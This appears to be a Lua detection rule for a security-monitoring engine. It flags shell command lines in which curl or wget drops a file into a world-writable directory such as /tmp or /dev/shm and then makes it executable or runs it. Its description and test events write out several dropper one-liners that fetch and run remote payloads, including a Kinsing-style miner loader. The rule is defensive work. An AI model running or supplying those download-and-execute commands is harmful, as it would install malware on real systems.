-- curl/wget saving into a world-writable directory, then the same command
-- line making that file executable or running it.
local K = kestrel

-- Work per event is bounded (the instruction budget counts every word):
local MAX_PARSE = 4096   -- bytes of a command line split into words
local MAX_COMMANDS = 64  -- simple commands examined
local MAX_WORDS = 48     -- words of each command examined

-- World-writable places droppers favour: whole trees (kestrel.under) ...
local WRITABLE_DIRS = { "/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/var/lock", "/dev/mqueue" }
-- ... and per-user runtime dirs, by glob.
local WRITABLE_GLOBS = { "/run/user/*/*", "/var/run/user/*/*" }

local function in_writable(path)
  if path == nil then return false end
  for _, d in ipairs(WRITABLE_DIRS) do
    if K.under(path, d) then return true end
  end
  return K.glob_any(path, WRITABLE_GLOBS)
end

local SHELLS = K.set { "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox" }
local RUNNERS = K.set { "sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python2", "python3",
  "perl", "php", "ruby", "node", "busybox" }
-- symbolic chmod modes that add execute: +x, u+x, a+rwx, ugo=rwx, ...
local EXEC_MODE_GLOBS = { "*+*x*", "*=*x*" }

-- Drop wrappers in front of the real command: "bash -c", sudo, env VAR=x,
-- nohup, timeout N, exec, command, busybox.
local function strip_wrappers(cmd)
  local i, n = 1, math.min(#cmd, MAX_WORDS)
  while i <= n do
    local w = K.basename(cmd[i])
    if SHELLS[w] and cmd[i + 1] and K.startswith(cmd[i + 1], "-") and K.endswith(cmd[i + 1], "c") then
      i = i + 2
    elseif w == "sudo" or w == "nohup" or w == "exec" or w == "command" or w == "busybox" then
      i = i + 1
    elseif w == "env" then
      i = i + 1
      while i <= n and K.contains(cmd[i], "=") do i = i + 1 end
    elseif w == "timeout" then
      i = i + 2
    else
      break
    end
  end
  return i
end

-- Absolute, normalised path of p seen from cwd (nil when p is relative and
-- cwd unknown: the same relative spelling still compares equal).
local function resolve(p, cwd)
  if p == nil or p == "" or p == "-" then return nil end
  if K.startswith(p, "/") then return K.normpath(p) end
  if cwd then return K.normpath(cwd .. "/" .. p) end
  return K.normpath(p)
end

local function url_file(url)
  if url == nil then return nil end
  local cut = string.find(url, "?", 1, true) or string.find(url, "#", 1, true)
  if cut then url = url:sub(1, cut - 1) end
  local scheme = string.find(url, "://", 1, true)
  local path = scheme and url:sub(scheme + 3) or url
  local slash = string.find(path, "/", 1, true)
  local name = slash and K.basename(path:sub(slash)) or ""
  if name == "" or name == "/" then return "index.html" end
  return name
end

local function looks_like_url(w)
  return K.startswith(w, "http://") or K.startswith(w, "https://") or K.startswith(w, "ftp://")
    or (K.contains(w, "/") and not K.startswith(w, "/") and not K.startswith(w, "-")
      and not K.startswith(w, ">") and K.contains(w, "."))
end

-- Where a curl or wget command (words from index i) writes, or nil (stdout).
local function download_target(cmd, i, cwd)
  local tool = K.basename(cmd[i])
  local out, dir, url, remote_name = nil, nil, nil, false
  local j = i + 1
  local last = math.min(#cmd, i + MAX_WORDS)
  while j <= last do
    local w = cmd[j]
    if tool == "curl" then
      if w == "-o" or w == "--output" then out = cmd[j + 1]; j = j + 1
      elseif K.startswith(w, "--output=") then out = w:sub(10)
      elseif w == "--output-dir" then dir = cmd[j + 1]; j = j + 1
      elseif w == "-O" or w == "--remote-name" then remote_name = true
      elseif K.startswith(w, "-") and not K.startswith(w, "--") and K.contains(w, "o") and #w > 2 then
        -- clustered short options: -fsSLo FILE, -sLO, or -o/tmp/x glued
        local k = string.find(w, "o", 2, true)
        if k == #w then out = cmd[j + 1]; j = j + 1 else out = w:sub(k + 1) end
      elseif K.startswith(w, "-") and not K.startswith(w, "--") and K.contains(w, "O") then
        remote_name = true
      end
    else -- wget
      if w == "-O" or w == "--output-document" then out = cmd[j + 1]; j = j + 1
      elseif K.startswith(w, "--output-document=") then out = w:sub(19)
      elseif K.startswith(w, "-O") and #w > 2 then out = w:sub(3)
      elseif w == "-P" or w == "--directory-prefix" then dir = cmd[j + 1]; j = j + 1
      elseif K.startswith(w, "--directory-prefix=") then dir = w:sub(20)
      end
      remote_name = true
    end
    if w == ">" or w == ">>" then out = cmd[j + 1]; j = j + 1
    elseif K.startswith(w, ">>") then out = w:sub(3)
    elseif K.startswith(w, ">") and not K.startswith(w, ">&") then out = w:sub(2)
    elseif not url and looks_like_url(w) then url = w
    end
    j = j + 1
  end
  if out then
    if out == "-" then return nil end
    if dir and not K.startswith(out, "/") then return resolve(out, dir) end
    return resolve(out, cwd)
  end
  if remote_name and url then
    local name = url_file(url)
    if dir then return resolve(name, resolve(dir, cwd)) end
    return resolve(name, cwd)
  end
  return nil
end

-- The files chmod makes executable (set as keys of out).
local function chmod_exec_targets(cmd, i, cwd, out)
  local mode = nil
  for j = i + 1, math.min(#cmd, i + MAX_WORDS) do
    local w = cmd[j]
    if not mode and not K.startswith(w, "-") then
      mode = w
      local octal = #w >= 3 and #w <= 5 and not string.find(w, "[^0-7]")
      local exec
      if octal then
        local owner = tonumber(w:sub(-3, -3))
        exec = owner % 2 == 1
      else
        exec = K.glob_any(w, EXEC_MODE_GLOBS)
      end
      if not exec then return end
    elseif mode and not K.startswith(w, "-") then
      local f = resolve(w, cwd)
      if f then out[f] = true end
    end
  end
end

-- The files a command runs (set as keys of out): the command word itself, or the script given to
-- an interpreter (sh /tmp/x, python3 /tmp/x.py).
local function executed(cmd, i, cwd, out)
  local w = cmd[i]
  if K.contains(w, "/") then
    local f = resolve(w, cwd)
    if f then out[f] = true end
  end
  if RUNNERS[K.basename(w)] then
    for j = i + 1, math.min(#cmd, i + MAX_WORDS) do
      local a = cmd[j]
      if not K.startswith(a, "-") then
        local f = resolve(a, cwd)
        if f then out[f] = true end
        return
      end
    end
  end
end

local function analyse(cmdline)
  if type(cmdline) ~= "string" then return nil end
  if #cmdline > MAX_PARSE then cmdline = cmdline:sub(1, MAX_PARSE) end
  local cwd = nil
  local dropped, made_exec, ran = {}, {}, {}
  local cmds = K.shell_commands(cmdline)
  for c = 1, math.min(#cmds, MAX_COMMANDS) do
    local cmd = cmds[c]
    local i = strip_wrappers(cmd)
    local w = cmd[i]
    if w then
      local name = K.basename(w)
      if name == "cd" and cmd[i + 1] then
        cwd = resolve(cmd[i + 1], cwd)
      elseif name == "curl" or name == "wget" then
        local target = download_target(cmd, i, cwd)
        if target and in_writable(target) then dropped[#dropped + 1] = target end
      elseif name == "chmod" then
        chmod_exec_targets(cmd, i, cwd, made_exec)
      else
        executed(cmd, i, cwd, ran)
      end
    end
  end
  for _, f in ipairs(dropped) do
    local how = {}
    if made_exec[f] then how[#how + 1] = "chmod" end
    if ran[f] then how[#how + 1] = "exec" end
    if #how > 0 then return f, table.concat(how, "+") end
  end
  return nil
end

local function proc(args, parent)
  return {
    event = { category = "process", type = "start", action = "exec" },
    process = { name = args[1], executable = "/usr/bin/" .. args[1], args = args,
      command_line = table.concat(args, " "), parent = { name = parent or "sshd" } },
    user = { name = "www-data" },
  }
end

rule {
  id = "kestrel-lua-download-to-writable-dir-and-exec",
  name = "Download into a world-writable directory made executable or run",
  severity = "high",
  tags = { "attack.command_and_control", "attack.t1105", "attack.execution", "attack.t1059.004",
    "attack.defense_evasion", "attack.t1222.002" },
  description = [[
One shell command line that downloads a file with curl or wget into a
world-writable directory (/tmp, /var/tmp, /dev/shm, /run/shm, /var/lock,
/dev/mqueue, /run/user/<uid>) and then makes that same file executable
(chmod +x, u+x, 7xx, 5xx) or runs it, directly or through an interpreter:
`curl -o /tmp/.x URL && chmod +x /tmp/.x && /tmp/.x`,
`cd /dev/shm; wget URL; chmod 777 kinsing; ./kinsing`. This is how
coin-miner and botnet droppers (Kinsing, Mirai loaders) land.
The rule parses the command line: the output file of curl (-o, --output,
-O, --output-dir, > redirection, clustered -fsSLo) and wget (-O, -P, the
URL's file name), the working directory set by `cd`, wrappers such as
`sudo`, `env`, `nohup` and `bash -c`; paths are compared after lexical
normalisation, so `/var/tmp/../../tmp/x` is /tmp/x.
False positives: install one-liners that stage a vendor installer in /tmp
and run it (some monitoring agents' documented installs); exclude those by
URL host or parent process.
]],
  prefilter = [[
process where event.type == "start" and
  process.name : ("bash", "sh", "dash", "zsh", "ksh", "ash", "busybox") and
  process.command_line : ("*curl*", "*wget*") and
  process.command_line : ("*/tmp*", "*/dev/shm*", "*/run/*", "*/var/lock*", "*/dev/mqueue*", "*cd *")
]],
  fields = { "process.command_line", "process.parent.name", "user.name" },
  match = function(e)
    local file, how = analyse(e["process.command_line"])
    if not file then return false end
    return {
      reason = "downloaded " .. file .. " and " .. how .. " in one command line",
      data = { file = file, how = how, user = e["user.name"], parent = e["process.parent.name"] },
    }
  end,
  tests = {
    { name = "curl -o /tmp, chmod +x, run alerts", expect = 1, events = {
      proc({ "bash", "-c", "curl -fsSL http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x" }),
    } },
    { name = "cd /dev/shm; wget; chmod 777; ./file alerts", expect = 1, events = {
      proc({ "sh", "-c", "cd /dev/shm; wget -q http://198.51.100.23/bins/kinsing; chmod 777 kinsing; ./kinsing" }, "cron"),
    } },
    { name = "wget -O into /var/tmp then run by sh alerts", expect = 1, events = {
      proc({ "sh", "-c", "wget -q -O /var/tmp/.sysupdate http://198.51.100.23/u.sh; sh /var/tmp/.sysupdate" }),
    } },
    { name = "clustered -sLo through a normalised path, then nohup alerts", expect = 1, events = {
      proc({ "bash", "-c", "curl -sLo /var/tmp/../../dev/shm/m http://203.0.113.7/m;"
        .. "chmod u+x /dev/shm/m; nohup /dev/shm/m -o pool.example.net:3333 &" }),
    } },
    { name = "curl redirected into /tmp and run alerts", expect = 1, events = {
      proc({ "bash", "-c", "curl -s http://203.0.113.7/k > /tmp/k; bash /tmp/k" }),
    } },
    { name = "download into the home directory does not alert", expect = 0, events = {
      proc({ "bash", "-c", "curl -fsSL https://example.com/install.sh -o /home/alice/install.sh"
        .. " && chmod +x /home/alice/install.sh && /home/alice/install.sh" }),
    } },
    { name = "download into /tmp that is only read does not alert", expect = 0, events = {
      proc({ "bash", "-c", "wget -O /tmp/data.csv https://example.com/data.csv && wc -l /tmp/data.csv" }),
    } },
    { name = "chmod of a different file does not alert", expect = 0, events = {
      proc({ "bash", "-c", "curl -o /tmp/a http://203.0.113.7/a; chmod +x /tmp/b" }),
    } },
    { name = "a look-alike directory (/tmpdata) does not alert", expect = 0, events = {
      proc({ "bash", "-c", "curl -o /tmpdata/tool http://203.0.113.7/tool && chmod 755 /tmpdata/tool" }),
    } },
    { name = "chmod 644 does not make it executable", expect = 0, events = {
      proc({ "bash", "-c", "curl -o /tmp/cfg.yml http://203.0.113.7/cfg.yml && chmod 644 /tmp/cfg.yml" }),
    } },
  },
}
